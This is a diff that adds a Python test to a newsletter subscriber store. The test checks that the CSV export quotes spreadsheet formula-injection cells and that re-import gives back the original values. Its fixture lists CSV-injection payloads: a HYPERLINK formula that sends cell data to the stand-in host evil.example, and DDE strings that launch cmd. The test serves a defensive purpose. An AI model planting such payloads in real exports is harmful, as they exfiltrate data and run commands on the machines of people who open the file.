@@ -134,3 +134,57 @@ def test_export_into_a_fresh_database_keeps_active_people(store: Store, tmp_path
         assert other.is_suppressed("tomasz.nowak@example.pl")
         assert other.is_suppressed("oluwaseun@example.ng")
         assert other.count(list_name="weekly", status="pending") == 1
+
+
+FORMULAS = {
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "equals",
+    "+cmd|' /C calc'!A0": "plus",
+    "-2+3+cmd|' /C calc'!A0": "minus",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "at",
+    "\t=1+1": "tab",
+    "\r=1+1": "carriage return",
+}
+
+
+def test_cells_a_spreadsheet_would_run_are_exported_as_text_and_import_back(
+    store: Store, tmp_path: Path
+) -> None:
+    for number, (formula, label) in enumerate(FORMULAS.items()):
+        store.add(
+            f"p{number}@example.com",
+            list_name="main",
+            consent=CLI,
+            name=f"Name {label}",
+            attributes={"note": "x"},
+        )
+        with store.write() as conn:  # names are whitespace-folded on add: write it as it is
+            from newsletter.store.schema import subscribers
+
+            conn.execute(
+                subscribers.update()
+                .where(subscribers.c.email == f"p{number}@example.com")
+                .values(name=formula)
+            )
+    store.add("-dash@example.com", list_name="-minus-list", consent=CLI, name="'quoted")
+    out = io.StringIO()
+    write_export(store, out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    for row in rows:
+        for column, cell in row.items():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
+    names = {row["name"] for row in rows}
+    assert {"'" + formula for formula in FORMULAS} <= names
+    dash = next(row for row in rows if row["email"] == "'-dash@example.com")
+    assert (dash["lists"], dash["name"]) == ("'-minus-list", "'quoted")
+    # our own export imported into a fresh database gives back the values as they were
+    path = tmp_path / "export.csv"
+    path.write_text(out.getvalue(), encoding="utf-8")
+    with open_store(f"sqlite:///{tmp_path / 'fresh.db'}") as fresh:
+        report = import_file(fresh, path, list_name=None, default_list="main")
+        assert report.invalid == []
+        again = {sub.email: sub for sub in fresh.iter_subscribers()}
+    assert {again[f"p{n}@example.com"].name for n in range(len(FORMULAS))} == {
+        " ".join(formula.split()) for formula in FORMULAS
+    }
+    assert again["-dash@example.com"].name == "'quoted"
+    assert [m.list_name for m in again["-dash@example.com"].memberships] == ["-minus-list"]
